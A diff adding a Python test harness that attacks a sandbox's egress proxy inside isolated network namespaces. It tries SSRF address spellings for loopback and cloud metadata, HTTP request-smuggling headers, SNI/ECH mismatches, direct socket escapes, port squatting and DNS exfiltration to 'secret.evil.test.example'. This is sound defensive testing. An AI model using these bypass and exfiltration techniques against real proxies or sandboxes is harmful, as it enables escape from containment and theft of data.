@@ -1,0 +1,299 @@
+"""A whole Atoll in a network of its own, where public addresses are peers of ours.
+
+Run by `test_egress.py` in fresh network and mount namespaces, so that nothing real is asked:
+a resolver that counts, one public address that listens, one service on the machine's loopback.
+Prints one JSON object: what came of each attempt.
+"""
+
+import base64
+import contextlib
+import json
+import socket
+import struct
+import subprocess
+import sys
+import tempfile
+import threading
+import urllib.request
+from collections.abc import Iterator
+from pathlib import Path
+
+from atoll.testing.server import TestServer, test_server
+
+PUBLIC = "93.184.215.14"
+NAMES = {
+    "allowed.test.example": PUBLIC,
+    "inner.test.example": "127.0.0.1",
+    "metadata.test.example": "169.254.169.254",
+    "api.openai.com": PUBLIC,
+    "elsewhere.test.example": PUBLIC,
+}
+PROFILE = """
+id: profile.attacked
+version: "1.0.0"
+extension: ext.namespaces
+network:
+  egress: [allowed.test.example, "http://allowed.test.example/ok", inner.test.example,
+           metadata.test.example, api.openai.com]
+safety:
+  sudo: [[apt-get, install, -y, jq]]
+"""
+
+
+class Peers:
+    """What was asked of the resolver, and what reached each listener."""
+
+    def __init__(self) -> None:
+        self.asked: list[str] = []
+        self.reached: dict[str, list[bytes]] = {"public": [], "plain": [], "loopback": []}
+
+    def resolve(self) -> None:
+        server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        server.bind(("127.0.0.1", 53))
+
+        def serve() -> None:
+            while True:
+                query, where = server.recvfrom(2048)
+                server.sendto(self._answer(query), where)
+
+        threading.Thread(target=serve, daemon=True).start()
+
+    def _answer(self, query: bytes) -> bytes:
+        labels, at = [], 12
+        while query[at]:
+            labels.append(query[at + 1 : at + 1 + query[at]].decode())
+            at += 1 + query[at]
+        name, kind = ".".join(labels), query[at + 1 : at + 3]
+        self.asked.append(name)
+        question = query[12 : at + 5]
+        address = NAMES.get(name)
+        found = address is not None and kind == b"\0\x01"
+        head = query[:2] + b"\x81\x80\0\1" + struct.pack(">H", found) + b"\0\0\0\0"
+        record = b"\xc0\x0c\0\1\0\1\0\0\0\x05\0\4" + socket.inet_aton(address or "0.0.0.0")
+        return head + question + (record if found else b"")
+
+    def listen(self, name: str, address: str, port: int) -> None:
+        server = socket.create_server((address, port))
+
+        def serve() -> None:
+            while True:
+                peer, _ = server.accept()
+                threading.Thread(target=self._talk, args=(name, peer), daemon=True).start()
+
+        threading.Thread(target=serve, daemon=True).start()
+
+    def _talk(self, name: str, peer: socket.socket) -> None:
+        with peer, contextlib.suppress(OSError):
+            got = peer.recv(65536)
+            self.reached[name].append(got)
+            moved = b"HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254/\r\n"
+            peer.sendall(moved + b"Content-Length: 0\r\nConnection: close\r\n\r\n")
+
+
+# Runs inside. Each attempt is (name, what to send to the proxy, what to send after a 200).
+INSIDE = r"""
+import base64, json, socket, sys
+told = {}
+def say(first, then=b"", address="127.0.0.1"):
+    with socket.create_connection((address, 3128), 8) as door:
+        door.settimeout(8)
+        try:
+            door.sendall(first)
+            answer = door.recv(65536)
+            if then and b" 200 " in answer[:20]:
+                door.sendall(then)
+                answer += b"|" + door.recv(65536)
+            while more := door.recv(65536):
+                answer += more
+        except OSError as error:
+            answer = (answer if "answer" in dir() else b"") + type(error).__name__.encode()
+    return answer[:1500].decode("latin-1")
+for name, first, then in json.loads(base64.b64decode(sys.argv[1])):
+    told[name] = say(base64.b64decode(first), base64.b64decode(then))
+told["v6"] = say(b"GET http://evil.test.example/ HTTP/1.1\r\nHost: evil.test.example\r\n\r\n",
+                 address="::1")
+def direct(family, kind, where):
+    try:
+        with socket.socket(family, kind) as out:
+            out.settimeout(3)
+            out.connect(where)
+            out.send(b"x")
+            return "sent"
+    except OSError as error:
+        return error.__class__.__name__ + " " + str(error.errno)
+told["direct tcp"] = direct(socket.AF_INET, socket.SOCK_STREAM, ("93.184.215.14", 443))
+told["direct udp"] = direct(socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53))
+told["direct v6"] = direct(socket.AF_INET6, socket.SOCK_STREAM, ("2606:4700::1111", 443))
+for port in (3128, 8082):
+    for family, where in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"),
+                          (socket.AF_INET, "0.0.0.0")):
+        with socket.socket(family) as taken:
+            taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+            try:
+                taken.bind((where, port))
+                told[f"squat {where}:{port}"] = "taken"
+            except OSError as error:
+                told[f"squat {where}:{port}"] = str(error.errno)
+try:
+    told["lookup"] = str(socket.gethostbyname("secret.evil.test.example"))
+except OSError as error:
+    told["lookup"] = type(error).__name__
+print(json.dumps(told))
+"""
+
+Attempt = tuple[str, bytes, bytes]
+
+
+def connect(authority: str) -> bytes:
+    return f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode()
+
+
+def plain(authority: str, path: str = "/", more: str = "") -> bytes:
+    head = f"GET http://{authority}{path} HTTP/1.1\r\nHost: {authority}\r\n{more}\r\n"
+    return head.encode()
+
+
+def hello(name: str | None, *, ech: bool = False) -> bytes:
+    """A minimal TLS 1.3 hello."""
+    extensions = b""
+    if name is not None:
+        raw = name.encode()
+        entry = b"\0" + len(raw).to_bytes(2, "big") + raw
+        sni = len(entry).to_bytes(2, "big") + entry
+        extensions += b"\0\0" + len(sni).to_bytes(2, "big") + sni
+    if ech:
+        extensions += b"\xfe\x0d\0\4abcd"
+    body = b"\x03\x03" + bytes(32) + b"\0\0\2\x13\1\1\0" + len(extensions).to_bytes(2, "big")
+    message = b"\1" + len(body + extensions).to_bytes(3, "big") + body + extensions
+    return b"\x16\x03\1" + len(message).to_bytes(2, "big") + message
+
+
+def attempts(loopback_port: int) -> list[Attempt]:
+    spellings = (
+        "127.0.0.1", "localhost", "0.0.0.0", "127.1", "0177.1", "0x7f.1", "2130706433", "[::]",
+        "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "127.0.0.1.",
+        "①②⑦.0.0.1", "169.254.169.254", "metadata.google.internal", "host.atoll.internal",
+        "inner.test.example", "metadata.test.example", "user@127.0.0.1",
+    )  # fmt: skip
+    port = loopback_port
+    tricks = {
+        "cl te": "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
+        "two cl": "Content-Length: 5\r\nContent-Length: 6\r\n",
+        "te space": "Transfer-Encoding : chunked\r\n",
+        "bare lf": "X: y\nTransfer-Encoding: chunked\r\n",
+        "obs fold": "X: y\r\n folded\r\n",
+        "two hosts": "Host: evil.test.example\r\n",
+        "te trick": "TE: chunked, identity\r\n",
+        "h2c": "Connection: Upgrade\r\nUpgrade: h2c\r\n",
+    }
+    host = "allowed.test.example"
+    return [
+        *((f"spelt {one} connect", connect(f"{one}:{port}"), b"GET / HTTP/1.0\r\n\r\n")
+          for one in spellings),
+        *((f"spelt {one} plain", plain(f"{one}:{port}"), b"") for one in spellings),
+        *((f"port {one}", connect(f"{host}{one}"), b"SSH-2.0-x\r\n")
+          for one in (":22", ":25", ":0", ":443x", "", ":65536")),
+        *((f"smuggled {name}", plain(host, "/ok", more), b"") for name, more in tricks.items()),
+        ("refused name", plain("c2VjcmV0.evil.test.example"), b""),
+        ("refused connect", connect("c2VjcmV0.evil.test.example:443"), b""),
+        ("inner address", connect("inner.test.example:443"), hello("inner.test.example")),
+        ("metadata address", connect("metadata.test.example:443"), b""),
+        ("provider", connect("api.openai.com:443"), hello("api.openai.com")),
+        ("sni evil", connect(f"{host}:443"), hello("elsewhere.test.example")),
+        ("sni none", connect(f"{host}:443"), hello(None)),
+        ("sni ech", connect(f"{host}:443"), hello(host, ech=True)),
+        ("sni ssh", connect(f"{host}:443"), b"SSH-2.0-OpenSSH\r\n"),
+        ("path outside", plain(host, "/ok/../admin"), b""),
+        ("right tls", connect(f"{host}:443"), hello(host)),
+        ("right plain", plain(host, "/ok/x"), b""),
+    ]  # fmt: skip
+
+
+def run_inside(server: TestServer, program: str, *args: str) -> dict[str, str]:
+    done = server.run("exec", "box", "--", "python3", "-c", program, *args, timeout=120)
+    if done.returncode:
+        raise RuntimeError(done.stderr[-2000:])
+    found: dict[str, str] = json.loads(done.stdout)
+    return found
+
+
+def attack(server: TestServer, peers: Peers, port: int) -> dict[str, object]:
+    encoded = [
+        (name, base64.b64encode(first).decode(), base64.b64encode(then).decode())
+        for name, first, then in attempts(port)
+    ]
+    packed = base64.b64encode(json.dumps(encoded).encode()).decode()
+    told: dict[str, object] = {}
+    for mode in ("limited", "full", "none"):
+        server.run("net", "mode", "box", mode)
+        peers.asked.clear()
+        for one in peers.reached.values():
+            one.clear()
+        told[mode] = {
+            "answers": run_inside(server, INSIDE, packed),
+            "asked": list(peers.asked),
+            "reached": {k: [b.decode("latin-1") for b in v] for k, v in peers.reached.items()},
+        }
+    server.run("net", "mode", "box", "host-only", "--port", str(port))
+    told["host-only"] = {
+        "named": run_inside(server, INSIDE, packed)["spelt host.atoll.internal connect"],
+        "reached": len(peers.reached["loopback"]),
+    }
+    server.run("stop", "box")  # takes in its journal
+    told["events"] = events(server)
+    return told
+
+
+def events(server: TestServer) -> list[dict[str, object]]:
+    """What the log says of the doors and the network."""
+    found: list[dict[str, object]] = []
+    after = 0
+    while page := json.loads(page_of(server, after)):
+        found += [one for one in page if one["event_type"].startswith(("door.", "network."))]
+        after = page[-1]["position"]
+    return found
+
+
+def page_of(server: TestServer, after: int) -> str:
+    request = urllib.request.Request(
+        f"{server.url}/v1/events?after={after}&limit=500",
+        headers={"Authorization": f"Bearer {server.token}"},
+    )
+    with urllib.request.urlopen(request, timeout=20) as answer:
+        return json.dumps(json.load(answer)["events"])
+
+
+@contextlib.contextmanager
+def network(peers: Peers) -> Iterator[int]:
+    """The namespaces we are in, furnished; the port of the machine's own service."""
+    for words in (("link", "set", "lo", "up"), ("addr", "add", f"{PUBLIC}/32", "dev", "lo")):
+        subprocess.run(["ip", *words], check=True)
+    with tempfile.NamedTemporaryFile("w") as file:
+        file.write("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
+        file.flush()
+        subprocess.run(["mount", "--bind", file.name, "/etc/resolv.conf"], check=True)
+        Path(file.name).chmod(0o644)
+        peers.resolve()
+        peers.listen("public", PUBLIC, 443)
+        peers.listen("plain", PUBLIC, 80)
+        peers.listen("loopback", "127.0.0.1", 5432)
+        yield 5432
+
+
+def main() -> None:
+    peers = Peers()
+    with network(peers) as port, test_server() as server:
+        (server.home / "p.yaml").write_text(PROFILE)
+        for words in (
+            ("profile", "save", str(server.home / "p.yaml")),
+            ("new", "--name", "box", "--profile", "attacked", "--detach"),
+        ):
+            done = server.run(*words)
+            if done.returncode:
+                raise RuntimeError(done.stderr)
+        print(json.dumps(attack(server, peers, port)))
+
+
+if __name__ == "__main__":
+    sys.exit(main())
